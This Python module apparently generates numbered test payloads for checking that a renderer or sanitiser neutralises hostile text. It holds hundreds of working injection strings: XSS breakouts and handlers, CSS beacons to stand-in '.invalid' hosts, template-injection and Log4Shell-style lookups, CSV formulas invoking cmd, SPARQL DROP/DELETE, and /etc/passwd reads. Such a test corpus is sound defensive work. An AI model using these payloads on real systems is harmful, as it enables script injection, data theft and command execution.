"""Texts that do harm where they are taken for something else than text: made of classes, vectors and disguises.

Each has a number of its own, and says it if it has its way: it calls `__ran(number)`, asks for
`https://p<number>.invalid/`, or stops the typesetting.  So a failure names the text that broke through.
"""

from __future__ import annotations

import re
from collections.abc import Iterator
from dataclasses import dataclass
from itertools import product

LONGEST = 80
"""So many characters may the longest have, so that it has room in a title."""
_UNWRITABLE = re.compile(
    r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u00ad\u061c\u200b-\u200f\u2028-\u202e\u2060-\u2069\ufeff\uffff]"
)

RUN, URL = "__ran(№)", "https://p№.invalid/"
SCRIPT, IMAGE, DRAWING = f"<script>{RUN}</script>", f"<img src=x onerror={RUN}>", f"<svg onload={RUN}>"

CLOSERS = (
    "", "</script>", "</style>", "</title>", "</textarea>", "</noscript>", "</iframe>", "</svg>", "</text></svg>",
    "</foreignObject>", "</desc>", "</math>", "</template>", "</select>", "</pre>", "</code>", "</option></select>",
    "-->", "--!>", "]]>", "<!--", "<![CDATA[", "<!doctype html>", "</head><body>",
)  # fmt: skip
QUOTES = ('"', "'", "`", "", '\\"', "\\'", "&quot;", "&#39;", '"/', "'/")
TAILS = (
    f">{IMAGE}", f" onmouseover={RUN} x=", f" autofocus onfocus={RUN} x=",
    f" style=animation:a onanimationstart={RUN} ",
    f" onpointerenter={RUN}//",
)  # fmt: skip
HANDLERS = (
    "<img src=data:, onerror=№>", "<image src=x onerror=№>", "<svg/onload=№>",
    "<body onload=№>",
    "<body onpageshow=№>", "<body onhashchange=№>", "<video src=x onerror=№></video>", "<video><source onerror=№>",
    "<audio src=x onerror=№></audio>", "<details open ontoggle=№>", "<input autofocus onfocus=№>",
    "<select autofocus onfocus=№>", "<textarea autofocus onfocus=№>", "<button popovertarget=p onbeforetoggle=№>",
    "<marquee onstart=№>x</marquee>", "<object data=x onerror=№></object>", "<embed src=x onload=№>",
    "<iframe onload=№></iframe>", "<style onload=№></style>", "<link rel=stylesheet href=data:, onload=№>",
    "<script src=x onerror=№></script>", "<form onsubmit=№><input type=submit>", "<a onclick=№>x</a>",
    "<div onwheel=№>x</div>", "<p onpointermove=№>x</p>", "<xss onscroll=№>", "<b oncopy=№>x</b>",
    "<dialog open onclose=№>", "<div contenteditable oninput=№>", "<track onerror=№>", "<frameset onload=№>",
    "<svg><animate onbegin=№ attributeName=x dur=1s>", "<svg><set onend=№ attributeName=x dur=1s>",
    "<math><mtext onclick=№>x", "<IMG SRC=x ONERROR=№>", "<img\nsrc=x\nonerror=№>", "<img/src/onerror=№>",
    '<img src="x`"onerror=№>', "<img src=x onerror\n=\n№>", "<<img src=x onerror=№>>", "<p style=x:x onmouseover=№>",
)  # fmt: skip
SCHEMES = (f"javascript:{RUN}", f"vbscript:{RUN}", f"data:text/html,{SCRIPT}", f"data:image/svg+xml,{DRAWING}")
DISGUISES = (
    "{}", "JaVaScRiPt{}", " {}", "java\nscript{}", "javascript&colon;{}", "&#106;avascript{}", "&#x6A;avascript{}",
    "java&Tab;script{}", "java&NewLine;script{}", "javascript%3A{}", "j%61vascript{}", "javascript：{}", "\u00a0{}",
    "view-source:{}", "feed:{}", "javascript:{}//https://", "https:javascript{}", "\\javascript{}", "/javascript{}",
)  # fmt: skip
VECTORS = ("{}", '<a href="{}">x</a>', "[x]({})", "<{}>")
DRAWINGS = (
    f"<svg>{SCRIPT}</svg>", f"<svg><use href='data:image/svg+xml,{DRAWING}#x'/></svg>",
    f"<svg><use href={URL}#x></svg>",
    f"<svg><foreignObject>{IMAGE}</foreignObject></svg>", f"<svg><image href={URL}></svg>", f"<svg><desc>{IMAGE}",
    f"<svg><a xlink:href=javascript:{RUN}><text>x</text></a>", f"<svg><set attributeName=onclick to={RUN}>",
    f"<svg><animate attributeName=href values=javascript:{RUN}>", f"<svg><style>@import'{URL}'</style>",
    f"<svg><feImage href={URL}></svg>", f"<svg><script href={URL}></script>", f"<svg><handler>{RUN}</handler>",
    f"<math><mtext><mglyph><style>{IMAGE}", f"<math><annotation-xml encoding=text/html>{IMAGE}",
    f"<math href=javascript:{RUN}>x</math>", f"</text><text onclick={RUN}>x", f'" onload="{RUN}',
    f"<!ENTITY x '{URL}'>",
    f"<?xml-stylesheet href='{URL}'?>", f"<tspan onclick={RUN}>x</tspan>", f"url({URL}#x)",
    f"<title>x</title>{DRAWING}",
)  # fmt: skip
STYLES = (
    f"red;background:url({URL})", f"}}*{{background:url({URL})}}", f"</style><link rel=stylesheet href={URL}>",
    f"@import '{URL}';", f"@import url({URL});", f"x:expression({RUN})", f"-moz-binding:url({URL})",
    f"behavior:url({URL})", f"<style>*{{background:url({URL})}}</style>", f"<div style=background:url({URL})>",
    f"*/*{{background:url({URL})}}/*", f"<style>@font-face{{src:url({URL})}}</style>", f"<style>@import'{URL}'",
    f"image-set('{URL}' 1x)", f"\\3c img src=x onerror={RUN}>", f'" style="background:url({URL})',
    f"}}text{{fill:url({URL}#x)}}", f"x;clip-path:url({URL}#x)", f"x;}}@font-face{{src:url({URL})", f"--x:url({URL})",
    f"<p style='content:url({URL})'>", f"#x{{cursor:url({URL}),auto}}", f"url(\"javascript:{RUN}\")",
)  # fmt: skip
TEMPLATES = (
    f"{{{{{RUN}}}}}", f"{{{{constructor.constructor('{RUN}')()}}}}", f"${{{RUN}}}", f"#{{{RUN}}}", f"<%= {RUN} %>",
    f"{{% for x in [1] %}}{SCRIPT}{{% endfor %}}", f"{{# {RUN} #}}", f"[[{RUN}]]", f"@{{{RUN}}}", f"`${{{RUN}}}`",
    "{{ cycler.__init__.__globals__ }}№", "{{ ''|safe }}" + SCRIPT, "{% raw %}" + SCRIPT, "{%endblock%}" + SCRIPT,
    "{0.__class__}№", "{№}", "{} {} №", "%s %(x)s %n №", "$(№)", "${jndi:ldap://p№.invalid/}", "<#assign x=№>",
    f"{{{{=<% %>=}}}}<%{{{RUN}}}%>", f"<th:block th:text=${{{RUN}}}>", f"*{{{RUN}}}", f"~{{::{RUN}}}",
    "{{#with №}}{{/with}}", "{php}№{/php}", "#set($x=№)", "{{7*'№'}}",
)  # fmt: skip
SCRIPTS = (
    "</script №", f"</ScRiPt >{SCRIPT}", f"</script/x>{SCRIPT}", f"</script\n>{SCRIPT}", f"<!--<script>{RUN}",
    "<!--<script x=№",
    f'"}};{RUN};//', f"'}};{RUN};//", f'\\";{RUN};//', f"\\';{RUN};//", f'"-{RUN}-"', f"'+{RUN}+'", f"*/{RUN}/*",
    f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e", f"\\x3cscript\\x3e{RUN}\\x3c/script\\x3e",
    f"%3Cscript%3E{RUN}",
    f"&lt;script&gt;{RUN}&lt;/script&gt;", f"&amp;lt;script&amp;gt;{RUN}", f"&#60;script&#62;{RUN}&#60;/script&#62;",
    f"&#x3c;img src=x onerror={RUN}&#x3e;", f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-", f"＜script＞{RUN}＜/script＞",
    f"<script>{RUN}//<!--", f"<script>/*</script>*/{RUN}</script>", f"]]]]><![CDATA[>{SCRIPT}", f"\\{RUN}\\", "\\№\\",
    f"<plaintext>{RUN}", f"<noembed>{IMAGE}", f"<xmp>{IMAGE}</xmp>{IMAGE}", f"<textarea>{IMAGE}", f"<title>{IMAGE}",
    f"\n{RUN}\n", f";{RUN};", f"__proto__[{RUN}]", f"//{RUN}", f"<!--#exec cmd={RUN}-->", f"<? {RUN} ?>",
)  # fmt: skip
BEACONS = (
    "<meta http-equiv=refresh content='0;url=№'>", "<base href=№>", "<iframe src=№></iframe>", "<form action=№>",
    f"<iframe srcdoc='&lt;script&gt;{RUN}&lt;/script&gt;'></iframe>", f"<iframe srcdoc='{IMAGE}'></iframe>",
    f"<iframe src='javascript:parent.{RUN}'></iframe>", "<button formaction=№>x</button>", "<link rel=icon href=№>",
    "<link rel=prefetch href=№>", "<link rel=preconnect href=№>", "<link rel=dns-prefetch href=№>",
    "<link rel=stylesheet href=№>", "<link rel=preload as=script href=№>", "<link rel=modulepreload href=№>",
    "<link rel=prerender href=№>", "<link rel=manifest href=№>", "<link rel=import href=№>",
    "<script src=№></script>",
    "<script type=speculationrules>{\"prefetch\":[{\"urls\":[\"№\"]}]}", "<img src=№>",
    "<img srcset='№ 1x'>",
    "<picture><source srcset=№><img></picture>", "<video src=№ autoplay></video>", "<video poster=№></video>",
    "<audio src=№ autoplay></audio>", "<video><track src=№ default></video>", "<embed src=№>",
    "<object data=№></object>",
    "<input type=image src=№>", "<body background=№>", "<table background=№>", "<a ping=№ href=#>x</a>",
    "<frameset><frame src=№></frameset>", "<portal src=№></portal>", "<bgsound src=№>", "<fencedframe src=№>",
    "<applet codebase=№></applet>", "<isindex action=№>", "<html manifest=№>", "<svg><a href=№>x", "<q cite=№>x</q>",
)  # fmt: skip
MARKDOWN = (
    f"![x]({URL})", f"![x](<{URL}>)", f"![x][x]\n\n[x]: {URL}", f"[x]\n\n[x]: javascript:{RUN}",
    f"[x](<javascript:{RUN}>)",
    f'[x]({URL}"onmouseover={RUN})', f"[x]({URL} '\"onmouseover={RUN} x=\"')", f"<{URL}\"onmouseover={RUN}>",
    "[x](//p№.invalid/)", "[x](\\\\p№.invalid/)", "[x](data:text/html;base64,№)",
    f"[![x]({URL})](javascript:{RUN})",
    f"[[lenin|{IMAGE}]]", f"[[lenin|[x](javascript:{RUN})]]", f"[[lenin]]{SCRIPT}", f"[[x\"onclick={RUN}|x]]",
    f"`{IMAGE}`", f"``` \n{SCRIPT}\n```", f"```{SCRIPT}\nx\n```", f"    {SCRIPT}", f"# {IMAGE}", f"> {SCRIPT}",
    f"- {IMAGE}",
    f"|a|b|\n|-|-|\n|{IMAGE}|x|", f"*{SCRIPT}*", f"~~{IMAGE}~~", f"\\<img src=x onerror={RUN}>", f"1. {IMAGE}",
    f"---\n{IMAGE}",
    f"<div\n\n>{IMAGE}", f"&lt;img src=x onerror={RUN}&gt;", f"[x](javascript&colon;{RUN})", f"www.p№.invalid {RUN}",
    f"[x](#/lenin\"onclick={RUN})", f"[x](https://a\\\"onclick={RUN})", f"^[{IMAGE}]", f"$${RUN}$$",
    f":::{{onclick={RUN}}}",
)  # fmt: skip
MUTATIONS = (
    f"<svg></p><style><a id='</style>{IMAGE}'>",
    f"<math><mtext><table><mglyph><style><!--</style>{IMAGE}",
    f"<noscript><p title='</noscript>{IMAGE}'>",
    f"<svg><p><style><!--</style>{IMAGE}-->",
    f"<form><math><mtext></form><mglyph><style></math>{IMAGE}",
    f"<select><template><style>{IMAGE}",
    f"<math><annotation-xml encoding=text/html><style>{IMAGE}",
    f"<a title='{IMAGE}'><table></a>",
    f"<svg><title><style><b id='</style>{IMAGE}'>",
    f"<xmp><p title='</xmp>{IMAGE}'>",
    f"<textarea><p title='</textarea>{IMAGE}'>",
    f"<template shadowrootmode=open>{IMAGE}",
)
"""What is harmless as it is read, and harmful when it is written out and read again."""
TYPST = (
    '#panic("№")', "#{panic(№)}", "]#panic(№)[", '")#panic(№)', '";panic(№);"', '\\")#panic(№)',
    "#eval(\"panic(№)\")",
    '#read("/etc/passwd")№', '#image("/etc/passwd")№', '#include "/etc/passwd"№', '#import "@preview/x:0.№.0"',
    "$panic(№)$",
    "*№", "_№", "`№", "```№", "= №", "<№>", "@x№", "/* №", "// №", "*/№", "#set page(width:№pt)",
    "#show: x=>panic(№)",
    "#link(\"https://p№.invalid/\")[x]", "\\u{23}panic(№)", "#plugin(\"№.wasm\")", "#context panic(№)", "]]]]№",
    "[[[[№",
)  # fmt: skip
QUERIES = (
    '" } DELETE WHERE { ?s ?p ?o } #№', "' } ; DROP ALL #№", '""" } INSERT DATA { <a:№> <a:b> <a:c> } #',
    "> ?p ?o } ; CLEAR ALL # №", f"}} SERVICE <{URL}> {{ ?s ?p ?o }} {{", f"\\u0022 }} LOAD <{URL}> #", f"<{URL}>",
    f"FROM <{URL}> №", "\\n} UNION { ?s ?p ?o }№", "№' OR '1'='1", "?x . FILTER(regex(?x,'(a+)+$№'))", "{{{{{{№",
    "}}}}}}№",
    f"{SCRIPT}@en", f'"{IMAGE}"^^<a:b>', f"<a:{SCRIPT}>", "_:b№ a <x>", "kg:lenin№> <b>",
)  # fmt: skip
FORMULAS = (
    *(mark.format(sign) for mark in ("{}", " {}", '"{}', "'{}", "\n{}") for sign in (
        "=cmd|' /C calc'!A№", '=HYPERLINK("https://p№.invalid/","x")', "@SUM(№,cmd|'/C calc'!A0)", "+№+cmd|'/C x'!A0",
        "-№+cmd|'/C x'!A0",
    )),
    '=WEBSERVICE("https://p№.invalid/")', '=IMPORTXML("https://p№.invalid/","//a")', "＝№+1", "＋№+x", "－№-x",
    "＠SUM(№)",
    "=DDE(\"x\";\"y\";\"№\")", "x,=№+1", "x;=№+1", 'x"\n=№+1', "=№\t=1", "\t=№", "-x№", "+x№", "@y№", "\u00a0=№",
    "\u3000=№",
)  # fmt: skip
ADDRESSES = (
    f"{URL}'onerror={RUN}", f"{URL}\"><script>{RUN}</script>", "file:///etc/passwd?№", "//p№.invalid/",
    "\\\\p№.invalid\\x",
    "http://user:pass@p№.invalid/", "https://p№.invalid:80@x/", f"blob:{URL}", f"filesystem:{URL}", "http://[::1]/№",
    f"data:text/javascript,{RUN}", "data:text/html;base64,PHNjcmlwdD4№", "file://p№.invalid/x", "jar:file:///№!/x",
    f"{URL}%00%0d%0aSet-Cookie:x=№", f"{URL}#javascript:{RUN}", "about:blank#№", "chrome://settings/№",
    "../../../../№",
    "..%2f..%2fetc%2fpasswd№", "C:\\№\\x", "mailto:x@p№.invalid", "tel:№", "ws://p№.invalid/", "urn:x:№\"><b>",
)  # fmt: skip
STEERING = (
    f"\u202e{RUN}\u202c", f"\u2066{IMAGE}\u2069", f"\u2028{RUN}\u2029", f"</scr\x00ipt>{SCRIPT}",
    f"<scr\x00ipt>{RUN}</script>",
    f"java\x01script:{RUN}", f"\x01javascript:{RUN}", f"\x00{IMAGE}", f"java\x7fscript:{RUN}", "\ufeff=№",
    f"\u200bjavascript:{RUN}",
    "\x1b[2J\x1b[31m№", "\x1b]0;№\x07", "\x9b31m№", "\x1b]8;;https://p№.invalid/\x1b\\x", "\r№", "\x08\x08\x08№",
    "\x0c№",
    "\x85№", "\u061c№", "\u00ad№", "\u2060№", "\uffff№", "\x1bP№\x1b\\", "\x1b[6n№",
)  # fmt: skip


@dataclass(frozen=True, slots=True)
class Payload:
    """A harmful text: its number, what class it is of, and whether a YAML file of ours may hold it at all."""

    number: int
    kind: str
    text: str

    @property
    def written(self) -> bool:
        return not _UNWRITABLE.search(self.text)


def _all() -> Iterator[tuple[str, str]]:
    yield from (("breakout", closer + start) for closer, start in product(CLOSERS, (SCRIPT, IMAGE, DRAWING)))
    yield from (("attribute", quote + tail) for quote, tail in product(QUOTES, TAILS))
    yield from (("handler", text.replace("№", RUN)) for text in HANDLERS)
    yield from (("scheme", vector.format(scheme)) for vector, scheme in product(VECTORS, SCHEMES))
    yield from (("disguise", VECTORS[i % 3].format(text.format(f":{RUN}"))) for i, text in enumerate(DISGUISES))
    yield from (("beacon", text if RUN in text else text.replace("№", URL)) for text in BEACONS)
    for kind, texts in {
        "drawing": DRAWINGS, "mutation": MUTATIONS, "style": STYLES, "template": TEMPLATES, "script": SCRIPTS,
        "markdown": MARKDOWN, "typst": TYPST, "query": QUERIES, "formula": FORMULAS, "address": ADDRESSES,
        "steering": STEERING,
    }.items():  # fmt: skip
        yield from ((kind, text) for text in texts)


PAYLOADS = tuple(Payload(i, kind, text.replace("№", str(i))) for i, (kind, text) in enumerate(_all(), start=100))
"""All of them.  Numbers have three digits, so that none is a part of another."""
WRITTEN = tuple(payload for payload in PAYLOADS if payload.written)
"""Those that a file of ours may hold."""
